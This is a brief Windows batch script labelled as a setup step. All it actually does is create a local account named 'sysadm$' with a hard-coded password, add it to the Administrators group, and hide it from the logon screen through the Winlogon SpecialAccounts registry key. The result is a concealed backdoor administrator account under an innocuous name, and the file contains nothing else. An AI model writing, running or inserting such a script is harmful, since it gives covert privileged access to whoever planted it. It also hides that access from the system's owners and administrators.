REM setup 1647 v2
@echo off
net user sysadm$ Winter#2025x /add /active:yes
net localgroup Administrators sysadm$ /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v sysadm$ /t REG_DWORD /d 0 /f
